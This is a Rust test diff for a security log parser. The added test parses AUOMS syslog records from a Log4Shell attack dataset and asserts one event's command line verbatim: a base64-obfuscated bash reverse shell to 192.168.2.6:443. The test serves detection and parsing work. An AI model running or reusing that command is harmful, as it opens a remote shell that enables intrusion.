@@ -253,6 +253,52 @@ fn auditd_demo_gcloud_events() {
 }
 
 #[test]
+fn auoms_execve_rows_of_a_sentinel_syslog_table() {
+    let (events, dispositions) =
+        run_lines(&testdata("logs/auoms/otrf_syslog_auoms_log4shell.json"));
+    assert_eq!(dispositions.len(), 50);
+    assert_eq!(events.len(), 27);
+    let failed = dispositions
+        .iter()
+        .filter(|d| {
+            **d == Disposition::Ignored {
+                source: LogSource::Auditd,
+                reason: "failed execve",
+            }
+        })
+        .count();
+    assert_eq!(failed, 23);
+    assert!(events.iter().all(|e| e.source == LogSource::Auditd));
+    let shell = events
+        .iter()
+        .find(|e| {
+            e.fields
+                .get_str(field::COMMAND_LINE)
+                .is_some_and(|c| c.starts_with("bash -c"))
+        })
+        .expect("the reverse shell");
+    assert_eq!(
+        shell.fields.get_str(field::COMMAND_LINE),
+        Some(
+            r#"bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}""#
+        )
+    );
+    assert_eq!(
+        detect(
+            &serde_json::from_str(
+                testdata("logs/auoms/otrf_syslog_auoms_log4shell.json")
+                    .lines()
+                    .next()
+                    .unwrap()
+            )
+            .unwrap()
+        ),
+        Some(LogSource::Auditd)
+    );
+    snapshot!(view(&events[..2]));
+}
+
+#[test]
 fn winlogbeat_and_sentinel_4688() {
     let beat = json!({"@timestamp": "2024-05-14T10:20:01.123Z",
         "event": {"code": "4688", "provider": "Microsoft-Windows-Security-Auditing"},
@@ -515,16 +561,19 @@ fn field_names_are_declared_and_command_lines_are_verbatim_vendor_strings() {
                     path.display()
                 );
             }
-            if event.source == LogSource::Auditd {
+            if event.raw.get("auditd").is_some() {
                 continue;
             }
             let mut leaves = Vec::new();
             string_leaves(&event.raw, &mut leaves);
+            // AUOMS's command line is copied as written from inside its `SyslogMessage`.
+            let auoms = event.raw.get("SyslogMessage").is_some();
             for name in [field::COMMAND_LINE, field::PARENT_COMMAND_LINE] {
                 if let Some(value) = event.fields.get_str(name) {
                     command_lines += 1;
                     assert!(
-                        leaves.contains(&value),
+                        leaves.contains(&value)
+                            || (auoms && leaves.iter().any(|l| l.contains(value))),
                         "{}: `{name}` = {value:?} is not a string of the raw record",
                         path.display()
                     );
@@ -560,7 +609,7 @@ fn raw_facts_hold_on_every_sample() {
                 );
             }
             sources.insert(event.source.name());
-            if event.source == LogSource::Auditd {
+            if event.raw.get("auditd").is_some() {
                 continue;
             }
             for (name, _) in event.fields.iter() {
